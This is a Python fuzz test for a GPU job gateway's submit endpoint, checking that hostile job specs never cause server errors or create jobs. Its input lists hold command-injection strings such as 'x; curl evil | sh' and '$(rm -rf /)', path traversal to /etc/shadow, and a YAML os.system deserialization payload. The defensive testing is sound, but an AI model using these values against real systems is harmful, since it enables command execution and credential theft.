"""Hostile specs at submit over HTTP (through the proxy): never a 5xx, never a Job created
for an invalid spec (Jobs counted in kubesim before and after)."""

from __future__ import annotations

import json

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

pytestmark = [pytest.mark.e2e, pytest.mark.ceph]

JSON_SCALARS = (
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40)
)
JSON = st.recursive(
    JSON_SCALARS,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4)
    ),
    max_leaves=20,
)
HOSTILE_TEXT = st.sampled_from(
    [
        "../../etc/passwd",
        "/etc/shadow",
        "~root/.ssh",
        "a/../../b",
        "$(rm -rf /)",
        "`id`",
        "x; curl evil | sh",
        "${HOME}",
        "name\x00null",
        "ÜNICODE-名前",
        "\u202eevil",
        "A" * 5000,
        "UPPER_case",
        "-leading-dash",
        "x" * 64,
        "",
        " ",
        "notebook.ipynb/../../x.ipynb",
    ]
) | st.text(max_size=80)
FIELDS = [
    "name",
    "image",
    "command",
    "args",
    "notebook",
    "parameters",
    "env",
    "gpus",
    "nodes",
    "gpus_per_node",
    "outputs_from",
    "gpu_type",
    "cpu",
    "memory",
    "working_dir",
    "max_runtime",
    "retries",
    "output_dir",
    "datasets",
    "shm_size",
    "owner",
    "user",
]


@st.composite
def hostile_spec(draw):
    spec: dict = {}
    if draw(st.booleans()):
        spec["name"] = draw(HOSTILE_TEXT)
    for field in draw(st.lists(st.sampled_from(FIELDS), max_size=6, unique=True)):
        spec[field] = draw(HOSTILE_TEXT | JSON)
    if draw(st.booleans()):
        spec["output_dir"] = draw(HOSTILE_TEXT)
    if draw(st.booleans()):
        spec["notebook"] = draw(HOSTILE_TEXT)
    return spec


def _deep(n: int):
    value: object = "x"
    for _ in range(n):
        value = {"a": value}
    return value


RAW_BODIES = [
    b"",
    b"{",
    b"[]",
    b"null",
    b"\xff\xfe\x00",
    b"a: &x [1]\nb: *x\n",
    b"!!python/object/apply:os.system ['id']",
    json.dumps({"name": "deep", "parameters": _deep(200)}).encode(),
    b"[" * 10000,
    json.dumps({"name": "n", "command": ["x"] * 10000}).encode(),
    b"name: ok\ncommand: [true]\nenv: {A: 1}\n",
    json.dumps({"name": "nan", "command": ["x"], "gpus": 1e400}).encode().replace(b"inf", b"NaN"),
]


def _jobs(gw) -> int:
    """carol's own jobs (the hostile user's): the gateway may create other Jobs meanwhile for
    earlier tests on this platform, e.g. an upload Job once S3 answers again."""
    selector = "app.kubernetes.io/managed-by=gpulab,gpulab.io/user=carol,!gpulab.io/upload-for"
    return len(gw.kubesim.jobs(selector))


def test_raw_hostile_bodies(gw):
    before = _jobs(gw)
    with gw.client("carol") as c:
        for body in RAW_BODIES:
            for ctype in ("application/json", "application/yaml"):
                r = c.post("/jobs", content=body, headers={"Content-Type": ctype})
                assert 400 <= r.status_code < 500, (body[:60], r.status_code, r.text[:300])
                assert "error" in r.json()
        r = c.post("/jobs", content=b"{}", headers={"Content-Type": "application/x-evil"})
        assert r.status_code == 415
    assert _jobs(gw) == before


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(spec=hostile_spec(), as_yaml=st.booleans())
def test_hostile_specs_never_5xx_never_a_job(gw, spec, as_yaml):
    import yaml

    before = _jobs(gw)
    with httpx.Client(
        base_url=gw.base, headers={"Authorization": f"token {gw.tokens['carol']}"}, timeout=30
    ) as c:
        if as_yaml:
            try:
                body = yaml.safe_dump(spec).encode("utf-8", "surrogatepass")
            except (yaml.YAMLError, UnicodeEncodeError):
                return
            r = c.post("/jobs", content=body, headers={"Content-Type": "application/yaml"})
        else:
            r = c.post(
                "/jobs",
                content=json.dumps(spec).encode(),
                headers={"Content-Type": "application/json"},
            )
    assert r.status_code < 500, (spec, r.status_code, r.text[:300])
    if r.status_code == 201:
        # a spec the gateway accepted must be a valid one: re-parse it and clean up
        from gpulab.hub.jobs.spec import parse_job_spec

        parse_job_spec(spec)
        with gw.client("carol") as c:
            c.delete(f"/jobs/{r.json()['id']}")
    else:
        assert 400 <= r.status_code < 500
        body = r.json()
        assert isinstance(body.get("error"), str)
        for p in body.get("problems", []):
            assert set(p) >= {"field", "message", "allowed"}
        assert _jobs(gw) == before
